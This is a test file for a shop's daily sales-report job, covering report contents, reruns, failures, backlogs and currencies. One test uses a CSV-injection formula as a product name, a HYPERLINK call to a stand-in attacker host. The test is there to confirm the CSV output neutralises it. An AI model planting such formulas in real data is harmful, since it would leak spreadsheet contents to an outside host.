import { renderCsv } from '../../../src/adapters/csv/render-csv.ts';
import type { Orders } from '../../../src/application/ports/orders.ts';
import type { Reports } from '../../../src/application/ports/reports.ts';
import { reportSales } from '../../../src/application/reports/report-sales.ts';
import { Unavailable } from '../../../src/domain/errors.ts';
import type { ProductId } from '../../../src/domain/product.ts';
import { toCustomerId, toOrderId, toProductId } from '../../support/ids.ts';
import { inMemoryReports } from '../../support/in-memory/in-memory-reports.ts';
import { address, customer, openShop, warehouse } from '../../support/shop.ts';

type Wrap = { orders?: (orders: Orders) => Orders; reports?: (reports: Reports) => Reports };

/** A shop that sells from 1 March 2026, and its report job. `wrap` wraps the job's ports. */
const openReportedShop = (wrap: Wrap = {}) => {
  const shop = openShop();
  const reports = inMemoryReports();
  shop.clock.set('2026-03-01T10:00:00.000Z');
  const deps = {
    orders: wrap.orders?.(shop.orders) ?? shop.orders,
    reports: wrap.reports?.(reports) ?? reports,
    renderCsv,
    clock: shop.clock,
    log: shop.log,
  };

  return {
    ...shop,
    reports,
    deps,
    report: reportSales(deps),

    async order(productId: ProductId, quantity = 1, of = toCustomerId('alice')): Promise<string> {
      const items = [{ productId, quantity }];
      const { value } = await shop.place({ customerId: of, items, shippingAddress: address });
      return value.id;
    },

    async text(day: string, format: 'json' | 'csv' = 'json'): Promise<string> {
      return Buffer.from((await reports.read(day, format)) ?? []).toString();
    },

    async json(day: string) {
      return JSON.parse(await this.text(day));
    },

    /** Everything that is stored. */
    async stored(): Promise<Record<string, string>> {
      const days = [...new Set(reports.names().map((name) => name.slice(6, 16)))];
      const all = days.flatMap((day) => (['csv', 'json'] as const).map((format) => [day, format] as const));
      const texts = all.map(async ([day, format]) => [`${day}.${format}`, await this.text(day, format)] as const);
      return Object.fromEntries(await Promise.all(texts));
    },
  };
};

const noSales = { placed: 0, confirmed: 0, rejected: 0, cancelled: 0, shipped: 0, units: 0, revenue: 0 };

/** Two days: an order is placed and confirmed on the first, and cancelled on the second. */
const twoDays = async (wrap?: Wrap) => {
  const shop = openReportedShop(wrap);
  await shop.product('mug', 10, { amount: 1250 });
  const id = await shop.order(toProductId('mug'), 2);
  await shop.drain();
  shop.clock.set('2026-03-02T00:15:00.000Z');
  return { shop, id };
};

test('each event counts on its own day, and the bytes of a day that is reported stay as they are', async () => {
  const { shop, id } = await twoDays();
  expect(await shop.report()).toEqual({ reported: 1, left: 0 });

  const first = { json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') };
  const sold = { ...noSales, placed: 1, confirmed: 1, units: 2, revenue: 2500 };
  expect(JSON.parse(first.json)).toEqual({
    date: '2026-03-01',
    totals: [{ currency: 'EUR', ...sold }],
    products: [{ currency: 'EUR', productId: 'mug', name: 'MUG', ...sold }],
  });

  await shop.cancel({ orderId: toOrderId(id), principal: customer(), precondition: {} });
  await shop.drain();
  shop.clock.set('2026-03-03T02:00:00.000Z');

  expect(await shop.report()).toEqual({ reported: 1, left: 0 });
  expect((await shop.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...noSales, cancelled: 1 }]);
  expect({ json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') }).toEqual(first);

  // A report of today has the same bytes: nothing was taken back from the first day.
  const rebuilt = inMemoryReports();
  await reportSales({ ...shop.deps, reports: rebuilt })();
  for (const day of ['2026-03-01', '2026-03-02']) {
    for (const format of ['json', 'csv'] as const) {
      expect(Buffer.from((await rebuilt.read(day, format)) ?? []).toString()).toBe(await shop.text(day, format));
    }
  }
});

test('an order that is short is rejected on its day, one that leaves is shipped on its day', async () => {
  const shop = openReportedShop();
  await shop.product('mug', 2);
  const id = toOrderId(await shop.order(toProductId('mug'), 2));
  await shop.drain();
  await shop.order(toProductId('mug'), 1, toCustomerId('bob'));
  await shop.drain();
  shop.clock.set('2026-03-03T10:00:00.000Z');
  const shipment = { carrier: 'DHL', trackingNumber: '1' };
  await shop.ship({ orderId: id, principal: warehouse, precondition: {}, shipment });
  await shop.drain();
  shop.clock.set('2026-03-04T02:00:00.000Z');
  await shop.report();
  const [first] = (await shop.json('2026-03-01')).totals;

  expect(first).toMatchObject({ placed: 2, confirmed: 1, rejected: 1, shipped: 0, units: 2, revenue: 2000 });
  expect((await shop.json('2026-03-03')).products).toMatchObject([{ ...noSales, productId: 'mug', shipped: 1 }]);
});

test('a day is open until a quarter of an hour after its end', async () => {
  const { shop } = await twoDays();
  shop.clock.set('2026-03-02T00:14:59.999Z');

  expect(await shop.report()).toEqual({ reported: 0, left: 0 });
  expect(shop.reports.names()).toEqual([]);
});

test('a shop without orders has no reports', async () => {
  const shop = openReportedShop();
  expect(await shop.report()).toEqual({ reported: 0, left: 0 });
  expect(shop.reports.names()).toEqual([]);
});

test('skipped nights are made up for, including days without orders', async () => {
  const { shop } = await twoDays();
  await shop.report();
  shop.clock.set('2026-03-03T23:59:59.999Z');
  await shop.order(toProductId('mug'));
  await shop.drain();
  shop.clock.set('2026-03-05T02:00:00.000Z');

  expect(await shop.report()).toEqual({ reported: 3, left: 0 });

  const days = ['01', '02', '03', '04'].map((day) => `2026-03-${day}`);
  expect(shop.reports.names()).toEqual(days.flatMap((day) => [`sales/${day}.csv`, `sales/${day}.json`]));
  for (const day of ['2026-03-02', '2026-03-04']) {
    expect(await shop.json(day)).toEqual({ date: day, totals: [], products: [] });
    expect((await shop.text(day, 'csv')).split('\r\n')).toHaveLength(2);
  }
  expect((await shop.json('2026-03-03')).totals).toMatchObject([{ placed: 1, confirmed: 1 }]);
});

test('the same night twice reports nothing again', async () => {
  const { shop } = await twoDays();
  await shop.report();
  const before = await shop.stored();

  expect(await shop.report()).toEqual({ reported: 0, left: 0 });
  expect(await shop.stored()).toEqual(before);
});

test('two runs at once report every day once, with the same content', async () => {
  const { shop } = await twoDays();
  shop.clock.set('2026-03-06T02:00:00.000Z');
  await Promise.all([shop.report(), shop.report(), shop.report()]);
  const outcomes = shop.log.entries
    .filter(({ event }) => event === 'report_written')
    .map(({ fields }) => fields.outcome);

  expect(outcomes.filter((outcome) => outcome === 'created')).toHaveLength(5);
  expect(outcomes).toHaveLength(15);
  expect((await shop.json('2026-03-01')).totals).toMatchObject([{ placed: 1 }]);
});

/** Storage that fails once, at the write of this format. */
const dyingAt = (format: 'csv' | 'json'): Wrap => {
  let left = 1;
  return {
    reports: (reports) => ({
      ...reports,
      create: (day, of, bytes) =>
        of === format && left-- > 0 ? Promise.reject(new Unavailable('media')) : reports.create(day, of, bytes),
    }),
  };
};

test.each(['csv', 'json'] as const)('the next run makes up for one that dies before the %s', async (format) => {
  const { shop } = await twoDays(dyingAt(format));

  await expect(shop.report()).rejects.toThrow('2026-03-01');
  expect(shop.reports.names()).toEqual(format === 'csv' ? [] : ['sales/2026-03-01.csv']);
  expect(await shop.report()).toEqual({ reported: 1, left: 0 });
  expect(shop.reports.names()).toEqual(['sales/2026-03-01.csv', 'sales/2026-03-01.json']);
});

test('a CSV with other content is neither accepted next to our JSON nor overwritten', async () => {
  const { shop } = await twoDays();
  await shop.reports.create('2026-03-01', 'csv', Buffer.from('other'));

  await expect(shop.report()).rejects.toThrow('2026-03-01');
  // The alert shows this to the operator, the only one who can fix it.
  expect(shop.log.entries.at(-1)).toMatchObject({
    event: 'report_failed',
    fields: { day: '2026-03-01', reason: expect.stringMatching(/different CSV for 2026-03-01.* Delete it/) },
  });
  expect(shop.reports.names()).toEqual(['sales/2026-03-01.csv']);
  expect(await shop.text('2026-03-01', 'csv')).toBe('other');

  shop.reports.remove('2026-03-01', 'csv');
  expect(await shop.report()).toEqual({ reported: 1, left: 0 });
});

test('a day that fails does not stop the reports of other days, and is named at the end', async () => {
  let broken = new Set(['2026-03-02', '2026-03-04']);
  const { shop } = await twoDays({
    orders: (orders) => ({
      ...orders,
      listSalesEvents: (status, day) => {
        if (broken.has(day)) throw new Unavailable('cosmos');
        return orders.listSalesEvents(status, day);
      },
    }),
  });
  shop.clock.set('2026-03-06T02:00:00.000Z');

  await expect(shop.report()).rejects.toThrow('2026-03-02, 2026-03-04');
  expect([...(await shop.reports.listDays())].toSorted()).toEqual(['2026-03-01', '2026-03-03', '2026-03-05']);

  const failures = shop.log.entries.filter(({ event }) => event === 'report_failed');
  expect(failures.map(({ level, fields }) => [level, fields.day, fields.reason])).toEqual([
    ['error', '2026-03-04', 'Unavailable: cosmos is not available.'],
    ['error', '2026-03-02', 'Unavailable: cosmos is not available.'],
  ]);

  broken = new Set();
  expect(await shop.report()).toEqual({ reported: 2, left: 0 });
});

/** Records the days that the job asks for. `fail` may throw for some of them. */
const watched = (fail: (day: string) => void): { tried: string[]; wrap: Wrap } => {
  const tried: string[] = [];
  const wrap: Wrap = {
    orders: (orders) => ({
      ...orders,
      listSalesEvents: (status, day) => {
        if (tried.at(-1) !== day) tried.push(day);
        fail(day);
        return orders.listSalesEvents(status, day);
      },
    }),
  };
  return { tried, wrap };
};

test('the newest day goes first, those of a backlog after it', async () => {
  const { tried, wrap } = watched(() => undefined);
  const { shop } = await twoDays(wrap);
  shop.clock.set('2026-03-05T02:00:00.000Z');
  await shop.report();

  expect(tried).toEqual(['2026-03-04', '2026-03-03', '2026-03-02', '2026-03-01']);
});

test('three days in a row for which a service was not available end the run, which says how many are left', async () => {
  const { tried, wrap } = watched((day) => {
    if (day !== '2026-03-07') throw new Unavailable('cosmos');
  });
  const { shop } = await twoDays(wrap);
  shop.clock.set('2026-03-09T02:00:00.000Z');

  await expect(shop.report()).rejects.toThrow(
    '2026-03-04, 2026-03-05, 2026-03-06, 2026-03-08, and 3 further days were not tried',
  );
  expect(tried).toEqual(['2026-03-08', '2026-03-07', '2026-03-06', '2026-03-05', '2026-03-04']);
});

test('days that fail by themselves do not end the run, however many they are', async () => {
  const { tried, wrap } = watched((day) => {
    if (day !== '2026-03-01') throw new RangeError('no sum');
  });
  const { shop } = await twoDays(wrap);
  shop.clock.set('2026-03-08T02:00:00.000Z');

  await expect(shop.report()).rejects.toThrow('2026-03-07. See');
  expect(tried).toHaveLength(7);
  expect([...(await shop.reports.listDays())]).toEqual(['2026-03-01']);
});

test('an order whose amounts cannot be added up fails its day loudly', async () => {
  const { shop } = await twoDays();
  for (const { id } of shop.orders.stored()) {
    const stored = await shop.orders.get(id);
    if (!stored) throw new Error('no order');
    const items = stored.value.items.map((item) => ({ ...item, lineTotal: 2 ** 53 }));
    await shop.orders.replace({ ...stored.value, items }, stored.etag);
  }

  await expect(shop.report()).rejects.toThrow('2026-03-01');
  expect(shop.reports.names()).toEqual([]);
  expect(JSON.stringify(shop.log.entries)).toContain('not a safe integer');
});

test('a long run starts no further day after some minutes and says how many are left, and the next run goes on', async () => {
  const { shop } = await twoDays({
    reports: (reports) => ({
      ...reports,
      create: (...args) => {
        shop.clock.advance(7 * 60_000);
        return reports.create(...args);
      },
    }),
  });
  shop.clock.set('2026-03-08T02:00:00.000Z');

  expect(await shop.report()).toEqual({ reported: 2, left: 5 });
  expect([...(await shop.reports.listDays())].toSorted()).toEqual(['2026-03-06', '2026-03-07']);
  expect(await shop.report()).toEqual({ reported: 2, left: 3 });
});

test('currencies have totals and rows of their own', async () => {
  const shop = openReportedShop();
  await shop.product('mug', 10, { amount: 1250 });
  await shop.product('cup', 10, { amount: 900, currency: 'USD' });
  await shop.order(toProductId('mug'), 2);
  await shop.order(toProductId('cup'), 3);
  await shop.drain();
  shop.clock.set('2026-03-02T02:00:00.000Z');
  await shop.report();
  const { totals, products } = await shop.json('2026-03-01');

  expect(totals).toMatchObject([
    { currency: 'EUR', revenue: 2500 },
    { currency: 'USD', revenue: 2700 },
  ]);
  expect(products).toMatchObject([
    { currency: 'EUR', productId: 'mug', units: 2 },
    { currency: 'USD', productId: 'cup', units: 3 },
  ]);
});

test('a name that a spreadsheet would calculate is unchanged in JSON, and text in CSV', async () => {
  const shop = openReportedShop();
  const name = '=HYPERLINK("http://evil.test?"&A1)';
  const details = { name, price: { amount: 100, currency: 'EUR' }, active: true };
  await shop.put({ id: toProductId('mug'), details, precondition: {} });
  await shop.set({ productId: toProductId('mug'), units: 5, precondition: {} });
  await shop.order(toProductId('mug'));
  shop.clock.set('2026-03-02T02:00:00.000Z');
  await shop.report();

  expect((await shop.json('2026-03-01')).products[0].name).toBe(name);
  expect(await shop.text('2026-03-01', 'csv')).toContain(`,"mug","'=HYPERLINK(""http://evil.test?""&A1)","1",`);
});

test('a day with many events logs its progress and how long it took', async () => {
  const { shop } = await twoDays({
    orders: (orders) => ({
      ...orders,
      async *listSalesEvents(_status, day) {
        shop.clock.advance(1_000);
        for (let n = 0; n < 6_000; n++) {
          yield { sortKey: `${day}|${n}`, currency: 'EUR', items: [] };
        }
      },
    }),
  });
  await shop.report();
  const signs = shop.log.entries.filter(({ event }) => event === 'report_progress').map(({ fields }) => fields.events);

  expect(signs).toEqual([10_000, 20_000, 30_000]);
  expect(shop.log.entries.at(-1)).toMatchObject({
    event: 'report_written',
    fields: { day: '2026-03-01', events: 30_000, ms: 5_000 },
  });
});
